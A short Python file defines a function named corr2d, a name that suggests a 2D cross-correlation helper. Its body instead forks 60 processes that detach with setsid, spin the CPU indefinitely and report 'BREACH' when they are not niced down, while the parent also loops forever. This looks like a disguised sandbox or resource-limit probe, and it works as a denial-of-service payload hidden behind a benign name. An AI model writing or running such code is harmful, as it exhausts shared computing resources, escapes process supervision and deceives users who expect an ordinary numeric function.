import os
import time


def corr2d(X, K):
    read, write = os.pipe()
    for _ in range(60):
        if os.fork() == 0:
            try:
                os.setsid()
            except PermissionError:
                pass
            end = time.monotonic() + 1.0
            while time.monotonic() < end:
                pass
            if os.nice(0) < 19:
                os.write(write, b"BREACH ")
            while True:
                pass
    time.sleep(2.0)
    os.set_blocking(read, False)
    try:
        print(os.read(read, 1000).decode())
    except BlockingIOError:
        pass
    while True:
        pass
